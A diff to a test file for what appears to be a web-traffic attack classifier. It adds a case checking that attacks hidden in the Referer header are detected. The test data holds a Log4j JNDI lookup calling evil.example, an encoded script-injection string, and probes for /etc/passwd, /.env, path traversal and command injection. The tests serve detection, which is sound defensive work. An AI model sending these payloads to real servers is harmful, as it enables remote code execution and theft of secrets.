@@ -41,3 +41,10 @@ test('plain targets: what may and may not take the shortcut', (t) => {
   for (const s of ['/.env', '/WEB-INF/web.xml', '/a.php?cmd=whoami', '/etc/passwd', '/a/../b', '/a%2e%2e/b', '/x.php?id=1%27', '/a?q=<s>', '/a?b'])
     t.false(plainTarget(s), s);
 });
+
+test('a plain path does not hide an attack in the referer (log4j lookup, markup)', (t) => {
+  const ua = 'Mozilla/5.0';
+  t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: '${jndi:ldap://evil.example/a}' }).categories, ['code_injection']);
+  t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: 'https://x.gov.cn/a?q=%3Cscript%3Ealert(1)%3C/script%3E' }).categories, ['xss']);
+  t.deepEqual(webFields({ method: 'GET', target: '/index.html', userAgent: ua, referer: 'https://www.example.gov.cn/zwgk/2026/t1_2.html' }).categories, []);
+});
